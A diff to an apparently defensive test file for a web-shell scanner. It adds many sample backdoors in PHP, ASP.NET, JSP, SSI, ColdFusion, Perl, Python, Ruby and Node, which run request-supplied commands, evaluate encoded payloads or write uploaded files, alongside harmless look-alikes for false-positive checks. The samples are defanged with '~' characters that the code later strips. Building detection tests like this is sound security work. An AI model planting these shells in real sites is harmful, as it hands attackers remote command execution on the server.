@@ -138,6 +138,45 @@ JSP = [
     '<%@ page import="java.sql.*" %><% String pw = "x"; if (request.getParameter("Pwd").equals(pw)) { Connection c = DriverManager.getConn~ection(request.getParameter("u")); ResultSet r = c.createStatement().executeQu~ery(request.getParameter("q")); java.io.File[] f = new java.io.File("/").listFiles(); Process p = Runtime.getRun~time().ex~ec(request.getParameter("c")); } %>',
 ]
 
+# Shapes that were missed at first: request values that are decoded in large files, pictures that are included,
+# names without letters, payloads in many pieces, web methods, Razor, server-side includes, expressions alone.
+LARGE = "".join("function f%d($a) { return trim($a) . '%d'; }\n" % (i, i) for i in range(300))
+MORE = [
+    ("q01.php", "<?php\n" + LARGE + "@ev~al(base64_decode($_REQUEST['c']));\n"),
+    ("q02.php", "<?php\n" + LARGE + "ev~al(base64_decode($_COOKIE['c']));\n"),
+    ("q03.php", "<?php $f = 'files/' . 'face_7.jpg'; if (file_exists($f)) { @inc~lude($f); }"),
+    ("q04.php", "<?php @inc~lude '/var/www/.x/\\x66av.ico';\n" + LARGE),
+    ("q05.php", "<?php $_=[];$_=@\"$_\";$___=$_;$__=$_;$__++;$__++;$___.=$__;$____='_';$__++;$____.=$__;$_=$$____;$___($_[_]);"),
+    ("q06.php", "<?php " + "".join("$v%d='%s';" % (i, "Zm9vYmFyYmF6"[i % 5:]) for i in range(400)) +
+     "function d($x){return gzuncompress(base64_decode($x));}ev~al(d(" + ".".join("$v%d" % i for i in range(400)) + "));"),
+    ("q07.asmx", '<%@ WebService Language="C#" Class="S" %>\nusing System.Diagnostics;\npublic class S : WebService { [WebMethod(Description="x")] '
+     'public string Go(string z) { var p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Argum~ents = "/c " + z; p.Start(); return "x"; } }'),
+    ("q08.soap", '<%@ WebService Language="JScript" class="S"%>\nimport System;\npublic class S extends WebService { WebMethodAttribute function T(c : String) : String { return ev~al(c, "unsafe"); } }'),
+    ("q09.cshtml", '@using System.Diagnostics\n@{ var a = Request["p"]; if (a != null) { Process.St~art("cmd.exe", "/c " + a); } }\n<pre>x</pre>'),
+    ("q10.cshtml", '@functions\n{\n  void Go() { System.IO.File.WriteAllT~ext(Request["n"], Request["d"]); }\n}\n@{ Go(); }'),
+    ("q11.jsp", '${"".getClass().forName("java.lang.Runt~ime").getMethod("ex~ec", "".getClass()).invoke("".getClass().forName("java.lang.Runt~ime").getMethod("getRunt~ime").invoke(null), param.q)}'),
+    ("q12.shtml", '<html><!--#ex~ec cmd="$HTTP_X_Q" --></html>'),
+    ("q13.asp", '<%\nFunction d(s)\nDim i, r\nFor i = 1 To Len(s) Step 2\nr = r & Chr(CLng("&H" & Mid(s, i, 2)) Xor 7)\nNext\nd = r\nEnd Function\nExec~uteGlobal d("6262606161737473727A757B6E61")\n%>'),
+    ("q14.aspx", '<%@ Page Language="VB" %><script runat="server">\nSub Go(s As Object, e As EventArgs)\nDim c As New SqlConnection(a.Text)\nDim k As New SqlCom~mand("EXEC master..xp_cmd~shell \'" & q.Text & "\'", c)\nEnd Sub\n</script>'),
+]
+# Programs of the web server in languages that are read by statements.
+SCRIPTS = [
+    ("s01.cgi", "#!/usr/bin/perl\nuse CGI;\nmy $q = new CGI;\nmy $c = $q->param('c');\nop~en(F, \"$c 2>&1 |\");\nwhile (<F>) { print; }\n"),
+    ("s02.pl", "#!/usr/bin/perl\nread(STDIN, $b, $ENV{'CONTENT_LENGTH'});\nforeach (split /&/, $b) { ($n, $v) = split /=/; $v =%NOT% tr/+/ /; $in{$n} = $v; }\nchdir $in{d}; print `$in{c} 2>&1`;\n"),
+    ("s03.cgi", "#!/usr/bin/perl\n$c = \"cd \\\"$in{d}\\\"; $ENV{QUERY_STRING}\";\n$x = $ENV{QUERY_STRING};\n$r = 'cd /; ' . $x;\nsys~tem($x);\n"),
+    ("s04.py", "#!/usr/bin/env python3\nimport cgi, subprocess\nform = cgi.FieldStorage()\nc = form.getvalue('c')\nprint(subprocess.Po~pen(c, shell=True, stdout=-1).communicate()[0])\n"),
+    ("s05.py", "from flask import request\ndef go():\n    return ev~al(request.args['q'])\n"),
+    ("s06.sh", "#!/bin/bash\necho 'Content-type: text/plain'; echo\nc=$(echo \"$QUERY_STRING\" | sed 's/^q=//; s/%20/ /g')\nev~al \"$c\" 2>&1\n"),
+    ("s07.rb", "require 'webrick'\ns.mount_proc('/') { |req, res| c = req.query['q']; res.body = IO.po~pen(c).read }\n"),
+    ("s08.erb", "<pre><%= `#{params[:q]}` %></pre>"),
+    ("s09.js", "const { exec } = require('child_process');\napp.get('/x', (req, res) => { ex~ec(req.query.c, (e, o) => { res.send(o); }); });\n"),
+    ("s10.js", "const cp = require('child_process');\napp.post('/x', (req, res) => { const c = req.body.c; cp.sp~awn('/bin/sh', ['-c', c]); });\n"),
+    ("s11.cfm", '<cfif isDefined("form.c")><cfexec~ute name="cmd.exe" arguments="/c #form.c#" timeout="9" variable="o"></cfexecute><cfoutput>#o#</cfoutput></cfif>'),
+    ("s12.cfm", '<cfset x = form.q><cfoutput>#Eval~uate(x)#</cfoutput>'),
+    ("s13.cfm", '<cfif isDefined("form.f")><cffi~le action="upload" filefield="f" destination="#ExpandPath(".")#" nameconflict="overwrite"></cfif><form method="post"><input type="file" name="f"></form>'),
+    ("s14.cfm", '<cffi~le action="write" file="#form.n#" output="#form.d#">'),
+]
+
 
 def php_texts():
     for i, line in enumerate(PHP_ONE):
@@ -157,6 +196,8 @@ def look_alikes():
         yield "n%d.%s" % (i, "ashx" if "WebHandler" in t else "asmx" if "WebService" in t else "aspx"), t
     for i, t in enumerate(JSP):
         yield "j%d.%s" % (i, "jspx" if "xmlns" in t else "jsp"), t
+    yield from MORE
+    yield from SCRIPTS
     yield "oab.aspx", OAB % OAB_SCRIPT
     yield "oab16.aspx", (OAB % OAB_SCRIPT).replace("~", "").encode("utf-16")
     yield "wide.php", ("<?php " + PHP_ONE[0] + "?>").replace("~", "").encode("utf-16-le")
@@ -189,6 +230,23 @@ HARMLESS = [
     ("doc.md", "Never write `ev~al($_POST['x'])` in PHP.\n"), ("a.ejs", "<% for (var i of items) { %><li><%= i.name %></li><% } %>"),
     ("php.conf", "AddType application/x-httpd-php .php\n<FilesMatch \"\\.php$\">\nSetHandler application/x-httpd-php\n</FilesMatch>\n"),
     ("map.png", b"\x89PNG\r\n\x1a\n" + bytes((i * 37 + i // 251) % 256 for i in range(60000))),
+    ("contact.php", "<?php\nif (!empty($_POST['m'])) { $m = filter_var($_POST['m'], FILTER_VALIDATE_EMAIL); if ($m) { mail('info@example.org', 'Form', strip_tags($_POST['t']), 'Reply-To: ' . $m); } }\n"),
+    ("draw.php", "<?php inc~lude 'img/logo.svg'; inc~lude('css/site.css'); echo 1;"),
+    ("gettext.php", "<?php function t($_) { return $_; } $_ = 't'; echo $_('Save'), $_('Cancel');"),
+    ("count.asmx", '<%@ WebService Language="C#" Class="S" %>\npublic class S : WebService { [WebMethod] public int Count(string a) { return Db.Scalar("select n from s where a = @a", a); }\n'
+     '[WebMethod] public string Ping() { var p = new Process(); p.StartInfo.FileName = "db.exe"; p.Start(); return p.StandardOutput.ReadToEnd(); } }'),
+    ("index.cshtml", '@model Shop.Order\n@{ ViewBag.Title = "Order"; var q = Request["q"]; }\n<p>@q</p>@Html.Raw(Model.Html)\n'),
+    ("year.shtml", '<html><!--#ex~ec cmd="date +%Y" --><!--#ex~ec cgi="/cgi-bin/n.cgi" --><!--#echo var="QUERY_STRING" --></html>'),
+    ("words.py", "from io import StringIO\nout = StringIO()\nx = out.getvalue()\nex~ec(x)\nt = '<%s> <% {ev~al(input.text)} %>'\n"),
+    ("stats.cgi", "#!/usr/bin/perl\nmy $up = `uptime`; my %f; foreach (split /&/, $ENV{'QUERY_STRING'}) { my ($n, $v) = split /=/; $f{$n} = $v; }\nop~en(L, '/var/log/a.log'); while (<L>) { print if index($_, $f{host}) >= 0; } close L;\nprint $up;\n"),
+    ("search.cgi", "#!/usr/bin/perl\n&ReadParse(*input);\n@dirs = ( $input{'db'} );\n$dir = $root . '/' . $dirs[0];\n$cmd = \"cd $dir; $tool -d < $in > $out;\";\nsys~tem($cmd);\n"),
+    ("send.pl", "#!/usr/bin/perl -T\nmy $to = $q->param('to'); $to =%NOT% /^([a-z@.]+)$/ or die;\nop~en(my $m, '|-', '/usr/sbin/sendmail', '-t'); print $m $q->param('text');\n"),
+    ("log.py", "#!/usr/bin/env python3\nform = cgi.FieldStorage(); rev = form.getvalue('rev')\nout = subprocess.r~un(['git', 'log', '-1', rev], capture_output=True).stdout\n"),
+    ("env.sh", "#!/bin/sh\necho \"query: $QUERY_STRING\"\ncase \"$QUERY_STRING\" in up) uptime ;; esac\nev~al \"$(ssh-agent -s)\"\n"),
+    ("version.js", "const { execFile, exec } = require('child_process');\napp.get('/v', (req, res) => { ex~ec('git rev-parse ' + Number(req.query.n), (e, o) => res.send(o)); });\n"),
+    ("app.rb", "get('/date') { `date +%F` }\npost('/up') { File.binwrite('x', params[:f][:tempfile].read) }\n"),
+    ("tasks.cfm", '<cfexec~ute name="C:\\t\\index.exe" arguments="/all" timeout="60"></cfexecute><cfset n = Eval~uate("form.qty_" & i)>\n'
+     '<cffi~le action="upload" filefield="p" destination="D:\\p" accept="image/png">'),
     ("info.php", "<?php phpinfo(); ?>"), ("x.html", "<script>ev~al(location.hash)</script>"),
 ]
 
